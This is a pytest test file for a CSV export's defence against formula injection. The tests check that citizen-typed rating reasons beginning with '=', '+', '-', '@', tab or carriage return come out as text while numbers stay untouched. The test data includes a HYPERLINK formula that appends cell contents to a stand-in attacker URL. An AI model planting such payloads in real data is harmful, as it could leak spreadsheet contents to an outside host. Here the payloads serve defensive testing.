"""Finding 7 (CSV): a citizen-typed rating reason that starts like a formula leaves the CSV export as
text (a leading apostrophe), while numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pytest

from server.csvsafe import safe_cell
from tests.privacy.kit import MANAGER, finished_visit, ok, staff_token

DAY = "2026-11-25"
HOSTILE = ["=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_are_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["waited long", "等太久", "", 12, -3, 1.5, None, "a=b"])
def test_other_cells_unchanged(value):
    assert safe_cell(value) == value


async def test_ratings_csv_neutralises_the_reason(hall):
    clerk = await hall.sign_in(3)
    manager = await staff_token(hall, MANAGER)
    pad = hall.device_token("rating-03")
    for reason in HOSTILE:
        ticket = await finished_visit(hall, clerk, 3, "business_setup")
        await ok(hall, "POST", f"/api/tickets/{ticket}/rating", pad, {"level": "dissatisfied", "reason": reason})
    for table in ("ratings", "bad_ratings", "visits"):
        async with hall.session.get(hall.url(f"/api/export/{table}.csv?from={DAY}&to={DAY}"),
                                    headers={"Authorization": f"Bearer {manager}"}) as resp:
            assert resp.status == 200
            rows = list(csv.DictReader(io.StringIO((await resp.text()).lstrip("\ufeff"))))
        assert rows, table
        for row in rows:
            for cell in row.values():
                assert not (cell or "").startswith(("=", "+", "-", "@", "\t", "\r")), (table, cell)
        if table != "visits":
            # the API trims surrounding whitespace; what is left is kept as text, never a formula
            assert sorted(r["rating_reason"] for r in rows) == sorted(safe_cell(t.strip()) for t in HOSTILE)
            assert all(int(r["window"]) == 3 for r in rows)  # numbers are not touched
